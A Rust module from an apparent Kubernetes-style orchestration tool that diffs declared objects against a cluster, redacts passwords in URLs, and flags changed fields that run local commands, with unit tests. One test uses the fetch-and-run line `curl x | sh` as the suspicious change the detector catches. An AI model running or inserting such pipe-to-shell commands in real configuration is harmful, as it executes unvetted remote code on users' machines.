//! What a change makes of objects: each is created, configured, pruned, or stays as it is.
//!
//! Objects are compared as people write them: without status, and without what the server, `gt apply` and sources
//! note.

use std::collections::BTreeMap;

use gastown_crds::common::{ANNOTATION_APPLIED, ANNOTATION_DECLARED, LABEL_SOURCE};
use gastown_crds::manifest::to_yaml;
use gastown_crds::url;
use serde::Serialize;
use serde_json::Value;
use similar::TextDiff;

/// Unchanged lines shown around a change, as `diff -u` does.
const CONTEXT_LINES: usize = 3;

/// Fields of `metadata` that are not people's.
const NOT_PEOPLES: [&str; 9] = [
    "uid",
    "resourceVersion",
    "generation",
    "creationTimestamp",
    "deletionTimestamp",
    "deletionGracePeriodSeconds",
    "managedFields",
    "selfLink",
    "namespace",
];

/// By kind, the fields that hold commands, or decide which program is run. Those of a list are told apart by name.
const COMMANDS: [(&str, &[&str]); 7] = [
    ("Town", &["spec.runtime"]),
    ("Rig", &["spec.workspace.setup", "spec.merge.verify[].run", "spec.runtime"]),
    ("Polecat", &["spec.runtime"]),
    ("Runtime", &["spec.command", "spec.start", "spec.resume", "spec.env", "spec.files[].content"]),
    ("Formula", &["spec.steps[].run"]),
    ("Convoy", &["spec.runtime", "spec.beads[].runtime", "spec.beads[].command"]),
    ("Bead", &["spec.runtime", "spec.command"]),
];

/// What is done to an object.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Serialize)]
#[serde(rename_all = "camelCase")]
pub enum Action {
    /// It is new.
    Created,
    /// It differs.
    Configured,
    /// It is deleted, as no manifest declares it any more.
    Pruned,
    /// Nothing.
    Unchanged,
}

impl Action {
    /// kubectl's word for it.
    pub fn word(self) -> &'static str {
        match self {
            Self::Created => "created",
            Self::Configured => "configured",
            Self::Pruned => "pruned",
            Self::Unchanged => "unchanged",
        }
    }
}

/// What a change makes of one object.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
#[serde(rename_all = "camelCase")]
pub struct ObjectChange {
    /// `rig/shop`.
    pub object: String,
    /// What is done to it.
    pub action: Action,
    /// The unified diff of its YAML; empty where it is unchanged.
    pub diff: String,
    /// The fields that are new or changed, and hold commands that are run on this machine.
    pub runs_commands: Vec<String>,
}

impl ObjectChange {
    /// What takes an object, of this kind and called this, from one state to another; none is no object.
    pub fn of(kind: &str, object: String, old: Option<&Value>, new: Option<&Value>) -> Self {
        let before = old.map(peoples);
        let after = new.map(peoples);
        let action = match (&before, &after) {
            (None, _) => Action::Created,
            (_, None) => Action::Pruned,
            (before, after) if before == after => Action::Unchanged,
            _ => Action::Configured,
        };
        let had = before.as_ref().map(|object| commands(kind, object)).unwrap_or_default();
        let has = after.as_ref().map(|object| commands(kind, object)).unwrap_or_default();
        let is_new = |(path, command): &(String, Value)| had.get(path) != Some(command);
        let runs_commands = has.into_iter().filter(is_new).map(|(path, _)| path).collect();
        // An earlier release took addresses with passwords: they are compared, and not shown.
        let text = |object: Option<Value>| {
            let shown = object.map(|mut object| {
                url::redact_object(&mut object);
                to_yaml(&object)
            });
            shown.unwrap_or_default()
        };
        let diff =
            if action == Action::Unchanged { String::new() } else { unified(&object, &text(before), &text(after)) };
        Self { object, action, diff, runs_commands }
    }
}

/// An object as people write it.
fn peoples(object: &Value) -> Value {
    let mut object = object.clone();
    if let Some(fields) = object.as_object_mut() {
        fields.remove("status");
    }
    if let Some(metadata) = object["metadata"].as_object_mut() {
        metadata.retain(|field, _| !NOT_PEOPLES.contains(&field.as_str()));
        for field in ["annotations", "labels"] {
            if let Some(map) = metadata.get_mut(field).and_then(Value::as_object_mut) {
                map.retain(|key, _| ![ANNOTATION_APPLIED, ANNOTATION_DECLARED, LABEL_SOURCE].contains(&key.as_str()));
            }
            if metadata.get(field).and_then(Value::as_object).is_some_and(serde_json::Map::is_empty) {
                metadata.remove(field);
            }
        }
    }
    object
}

/// The commands in an object, by path.
fn commands(kind: &str, object: &Value) -> BTreeMap<String, Value> {
    let mut found = BTreeMap::new();
    let fields = COMMANDS.iter().filter(|(of, _)| *of == kind).flat_map(|(_, fields)| *fields);
    for field in fields {
        collect(object, field, "", &mut found);
    }
    found
}

/// Notes what stands at a field, below this path.
fn collect(value: &Value, field: &str, path: &str, found: &mut BTreeMap<String, Value>) {
    let (first, rest) = field.split_once('.').map_or((field, None), |(first, rest)| (first, Some(rest)));
    let (name, is_each) = first.strip_suffix("[]").map_or((first, false), |name| (name, true));
    let below = &value[name];
    let path = if path.is_empty() { name.to_owned() } else { format!("{path}.{name}") };
    match rest {
        Some(rest) if is_each => {
            for (nth, item) in below.as_array().into_iter().flatten().enumerate() {
                let called = item["name"].as_str().map_or_else(|| nth.to_string(), str::to_owned);
                collect(item, rest, &format!("{path}[{called}]"), found);
            }
        }
        Some(rest) => collect(below, rest, &path, found),
        None if !below.is_null() => drop(found.insert(path, below.clone())),
        None => {}
    }
}

fn unified(object: &str, old: &str, new: &str) -> String {
    let diff = TextDiff::from_lines(old, new);
    let (before, after) = (format!("{object} (in the town)"), format!("{object} (as declared)"));
    let name = |text: &str, name: String| if text.is_empty() { "/dev/null".to_owned() } else { name };
    let header = (name(old, before), name(new, after));
    diff.unified_diff().context_radius(CONTEXT_LINES).header(&header.0, &header.1).to_string()
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    fn rig(verify: &Value, metadata: &Value) -> Value {
        let spec = json!({ "repo": { "url": "/x" }, "merge": { "strategy": "Push", "verify": verify } });
        json!({ "apiVersion": "gastown.io/v1alpha1", "kind": "Rig", "metadata": metadata, "spec": spec, "status": {} })
    }

    #[test]
    fn what_the_server_and_apply_note_is_no_change() {
        let old = rig(
            &json!([]),
            &json!({ "name": "shop", "uid": "1", "generation": 3, "annotations": { ANNOTATION_APPLIED: "{}" } }),
        );
        let new = rig(&json!([]), &json!({ "name": "shop" }));
        let change = ObjectChange::of("Rig", "rig/shop".into(), Some(&old), Some(&new));
        assert_eq!((change.action, change.diff.as_str()), (Action::Unchanged, ""));
    }

    #[test]
    fn a_changed_command_is_told_from_one_that_only_moved() {
        let check = |name: &str, run: &str| json!({ "name": name, "run": run });
        let old = rig(&json!([check("test", "make test"), check("lint", "make lint")]), &json!({ "name": "shop" }));
        let new = rig(&json!([check("lint", "make lint"), check("test", "curl x | sh")]), &json!({ "name": "shop" }));
        let change = ObjectChange::of("Rig", "rig/shop".into(), Some(&old), Some(&new));
        assert_eq!(change.runs_commands, ["spec.merge.verify[test].run"]);
        insta::assert_snapshot!(change.diff, @r#"
        --- rig/shop (in the town)
        +++ rig/shop (as declared)
        @@ -6,9 +6,9 @@
           merge:
             strategy: Push
             verify:
        -    - name: test
        -      run: make test
             - name: lint
               run: make lint
        +    - name: test
        +      run: "curl x | sh"
           repo:
             url: /x
        "#);
    }

    #[test]
    fn whatever_decides_which_program_runs_is_a_command() {
        let changed = |kind: &str, old: &Value, new: &Value| {
            let object = |spec: &Value| json!({ "kind": kind, "metadata": { "name": "a" }, "spec": spec });
            ObjectChange::of(kind, "a".into(), Some(&object(old)), Some(&object(new))).runs_commands
        };
        for kind in ["Town", "Rig", "Polecat", "Convoy", "Bead"] {
            assert_eq!(changed(kind, &json!({}), &json!({ "runtime": "mine" })), ["spec.runtime"], "{kind}");
        }
        let beads = |runtime: &str| json!({ "beads": [{ "name": "one" }, { "name": "two", "runtime": runtime }] });
        assert_eq!(changed("Convoy", &beads("codex"), &beads("mine")), ["spec.beads[two].runtime"]);
        let runtime = |word: &str| {
            json!({ "command": ["claude"], "start": [word], "resume": ["--resume", word],
                    "files": [{ "name": "same", "content": "" }, { "name": "hooks.json", "content": word }] })
        };
        let expected = ["spec.files[hooks.json].content", "spec.resume", "spec.start"];
        assert_eq!(changed("Runtime", &runtime("a"), &runtime("b")), expected);
    }

    #[test]
    fn a_password_is_compared_and_not_shown() {
        let with = |password: &str| {
            let mut rig = rig(&json!([]), &json!({ "name": "shop" }));
            rig["spec"]["repo"]["url"] = format!("https://me:{password}@example.org/x").into();
            rig
        };
        let change = ObjectChange::of("Rig", "rig/shop".into(), Some(&with("old")), Some(&with("new")));
        assert_eq!((change.action, change.diff.as_str()), (Action::Configured, ""));
        let change = ObjectChange::of("Rig", "rig/shop".into(), Some(&with("old")), None);
        assert!(change.diff.contains("https://example.org/x") && !change.diff.contains("old@"), "{}", change.diff);
    }

    #[test]
    fn an_object_that_goes_runs_nothing() {
        let old = rig(&json!([{ "name": "test", "run": "make" }]), &json!({ "name": "shop" }));
        let change = ObjectChange::of("Rig", "rig/shop".into(), Some(&old), None);
        assert_eq!((change.action, change.runs_commands), (Action::Pruned, vec![]));
        let change = ObjectChange::of("Rig", "rig/shop".into(), None, Some(&old));
        assert_eq!((change.action, change.runs_commands.len()), (Action::Created, 1));
    }
}
